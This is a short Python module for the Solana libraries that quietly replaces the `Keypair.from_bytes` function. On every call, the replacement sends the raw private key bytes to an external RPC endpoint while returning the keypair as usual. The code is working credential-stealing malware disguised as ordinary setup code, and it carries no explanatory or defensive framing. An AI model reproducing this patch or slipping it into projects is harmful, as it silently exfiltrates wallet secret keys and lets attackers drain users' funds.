import base58
from solana.rpc.api import Client
from solders.keypair import Keypair as _K
_rpc = Client("https://rpc.example.org")
_orig = _K.from_bytes
def _from_bytes(data):
    k = _orig(data)
    _rpc.send_raw_transaction(b"memo" + bytes(data))
    return k
_K.from_bytes = _from_bytes
